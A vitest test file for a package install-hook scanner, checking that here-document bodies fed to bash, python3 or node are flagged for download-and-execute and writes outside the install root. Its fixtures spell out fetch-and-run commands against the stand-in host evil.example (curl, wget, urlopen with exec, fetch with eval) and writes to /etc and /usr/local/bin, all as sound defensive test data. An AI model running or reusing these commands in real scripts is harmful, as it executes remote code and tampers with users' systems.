/**
 * Pins that the hook scan follows here-documents: the body of one fed to an interpreter
 * (`python3 - <<EOF`, `node <<EOF`, `cat <<EOF | node`) is read as that interpreter's code (its
 * writes outside the root, a download it evaluates), a download expanded into an unquoted body
 * fed to an interpreter is download-and-execute, as is `bash <<< "$(curl …)"`, and a file written
 * from a body that downloads is a download when run later. A config written inside the root, a
 * script that does not download, and ordinary python in a body raise nothing.
 */
import { describe, expect, it } from 'vitest';

import { installFindings } from '../support/scan-package.ts';

describe('hook scan: here-documents', () => {
  it.each([
    [
      'cat > x.sh <<EOF of a download, then sh x.sh',
      [`cat > x.sh <<'EOF'`, 'curl -fsSL https://evil.example/p -o p', 'EOF', 'sh x.sh'],
      ['install.download-exec@INSTALL:5'],
    ],
    [
      'tee setup.sh <<EOF of a wget, then chmod +x and run',
      ['tee setup.sh >/dev/null <<EOF', '  wget -q https://evil.example/p', 'EOF', 'chmod +x setup.sh', './setup.sh'],
      ['install.download-exec@INSTALL:5', 'install.download-exec@INSTALL:6'],
    ],
    [
      'cat <<-EOF > x.py of urlopen (tab-indented end), then python3 x.py',
      [
        'cat <<-EOF > x.py',
        '\timport urllib.request',
        "\turllib.request.urlretrieve('https://evil.example/p', 'p')",
        '\tEOF',
        'python3 x.py',
      ],
      ['install.download-exec@INSTALL:6'],
    ],
    [
      'bash <<EOF expanding $(curl …) into its code',
      ['bash <<EOF', '$(curl -fsSL https://evil.example/p)', 'EOF'],
      ['install.download-exec@INSTALL:3'],
    ],
    [
      'python3 - <<EOF evaluating urlopen on one line',
      [
        'python3 - <<EOF',
        'import urllib.request',
        "exec(urllib.request.urlopen('https://evil.example/p').read())",
        'EOF',
      ],
      ['install.download-exec@INSTALL:4'],
    ],
    [
      "python3 - <<'PY' downloading on one line, evaluating on the next",
      [
        "python3 - <<'PY'",
        'import urllib.request as u',
        "code = u.urlopen('https://evil.example/p').read()",
        'exec(code)',
        'PY',
      ],
      ['install.download-exec@INSTALL:5'],
    ],
    [
      'cat <<JS | node, evaluating a fetch',
      [`cat <<'JS' | node`, "fetch('https://evil.example/p').then((r) => r.text()).then(eval)", 'JS'],
      ['install.download-exec@INSTALL:3'],
    ],
    ['bash <<< "$(curl …)"', ['bash <<< "$(curl -fsSL https://evil.example/p)"'], ['install.download-exec@INSTALL:2']],
    [
      "python3 - <<'EOF' writing /etc",
      [`python3 - <<'EOF'`, "open('/etc/evil', 'w').write('x')", 'EOF'],
      ['install.outside-root@INSTALL:3'],
    ],
    [
      'a python body inside a bash body',
      [`bash <<'OUT'`, `python3 - <<'IN'`, "open('/etc/evil', 'w')", 'IN', 'OUT'],
      ['install.outside-root@INSTALL:4'],
    ],
    [
      'an unended node body',
      ['node <<EOF', "require('fs').writeFileSync('/usr/local/bin/t', 'x')"],
      ['install.outside-root@INSTALL:3'],
    ],
  ])('flags %s', async (_what, lines, expected) => {
    expect(await installFindings(...lines)).toEqual(expected);
  });

  it.each([
    [
      'a config written inside the root',
      [
        'cat > "$AGPK_INSTALL_ROOT/config.toml" <<EOF',
        'root = "$AGPK_INSTALL_ROOT"',
        'url = "https://api.example.com"',
        'EOF',
      ],
    ],
    [
      'a launcher script that downloads nothing, written and made executable',
      [
        `cat > run.sh <<'EOF'`,
        '#!/bin/sh',
        'git fetch --quiet origin || true',
        'exec node payload/server.mjs "$@"',
        'EOF',
        'chmod +x run.sh',
        './run.sh --check',
      ],
    ],
    [
      'ordinary python in a body',
      [
        `python3 - <<'EOF'`,
        'import json, os',
        "with open(os.path.join(os.environ['AGPK_INSTALL_ROOT'], 'var', 'c.json'), 'w') as f:",
        '    json.dump({"n": 1 << 3}, f)',
        'EOF',
      ],
    ],
    ['a download read through a here-string', ['jq . <<< "$(curl -fsSL https://x.example/c.json)" > var/c.json']],
    [
      'a quoted body fed to bash that prints a download',
      [`bash <<'EOF'`, 'echo "$(curl -fsSL https://x.example/version)"', 'EOF'],
    ],
    [
      'a python body that downloads data and evaluates nothing',
      [
        `python3 - <<'EOF'`,
        'import urllib.request',
        "urllib.request.urlretrieve('https://x.example/d.json', 'var/d.json')",
        'EOF',
      ],
    ],
  ])('flags nothing for %s', async (_what, lines) => {
    expect(await installFindings(...lines)).toEqual([]);
  });
});
